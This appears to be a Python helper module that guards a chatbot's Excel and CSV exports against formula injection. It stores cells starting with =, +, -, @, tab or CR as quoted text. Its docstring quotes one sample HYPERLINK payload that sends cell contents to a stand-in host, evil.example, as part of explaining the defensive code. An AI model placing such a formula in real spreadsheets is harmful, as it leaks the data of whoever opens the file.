"""The one way visitbot writes a workbook cell: text never becomes a live formula.

Visitors type free text in chat and townships send rosters by e-mail; either may hold
`=HYPERLINK("http://evil.example/?d="&B5&B6,"点击查看详情")`, which a spreadsheet would run
when an officer opens the file (CSV/formula injection). Every cell of every workbook
visitbot writes goes through `put`, `cell` or `append` here: a text value starting with
= + - @ or a tab/CR is stored as text (cell type "s") marked quotePrefix — what Excel itself
does when someone types '=… — so the officer sees exactly what was written and nothing is
evaluated. CSV has no cell types: there `neutralize` prefixes a single quote, which the
roster import strips again.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl loads late: the CSV paths do not need it
    from openpyxl.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def neutralize(value: Any) -> Any:
    """For CSV (no cell types): quote text a spreadsheet would evaluate, `=1+1` → `'=1+1`."""
    return "'" + value if formula_like(value) else value


def as_text(c: Cell) -> Cell:
    """Keep a cell's text as text, whatever it starts with."""
    if formula_like(c.value):
        c.data_type = "s"
        c.quotePrefix = True
    return c


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """`ws.cell(row, column, value)`, never a formula."""
    c = ws.cell(row=row, column=column)
    c.value = value
    return as_text(c)


def cell(ws: WriteOnlyWorksheet | Worksheet, value: Any) -> Cell:
    """A cell to style and then `append` (write-only sheets too), never a formula."""
    from openpyxl.cell import WriteOnlyCell

    return as_text(WriteOnlyCell(ws, value=value))


def append(ws: WriteOnlyWorksheet | Worksheet, values: Iterable[Any]) -> None:
    """`ws.append` for a row of plain values and cells; text stays text."""
    from openpyxl.cell import Cell

    out: list[Any] = []
    for v in values:
        if isinstance(v, Cell):
            out.append(as_text(v))
        elif formula_like(v):
            out.append(cell(ws, v))
        else:
            out.append(v)
    ws.append(out)


def print_setup(ws: WriteOnlyWorksheet | Worksheet, *, landscape: bool = True,
                title_rows: str | None = None) -> None:
    """A4, fitted to the page width (as many pages down as needed), header rows repeated:
    a sheet prints as the matching PDF does."""
    ws.page_setup.paperSize = "9"  # A4 (Worksheet.PAPERSIZE_A4; write-only sheets lack it)
    ws.page_setup.orientation = "landscape" if landscape else "portrait"
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.print_options.horizontalCentered = True
    if title_rows:
        ws.print_title_rows = title_rows
